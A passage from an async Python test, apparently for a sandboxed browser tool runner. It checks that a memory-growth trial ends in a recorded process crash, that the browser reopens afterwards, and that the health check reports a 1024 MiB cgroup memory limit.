        assert grown.failure.category == ToolErrorCategory.PROCESS_CRASHED, why(grown)
        again = await trials.call("grow:0", {"type": "open_web_browser"})
        assert again.status == ExecutionStatus.SUCCESS and "home" in again.output, why(again)
        other = await trials.call("grow:1", {"type": "open_web_browser"})
        assert other.status == ExecutionStatus.SUCCESS and "home" in other.output, why(other)
        health = await handle.runner.health()  # what HealthCheck says of the browser
        assert any("cgroup, memory 1024 MiB" in line for line in health.adapters), health.adapters
    finally:
        await handle.close()
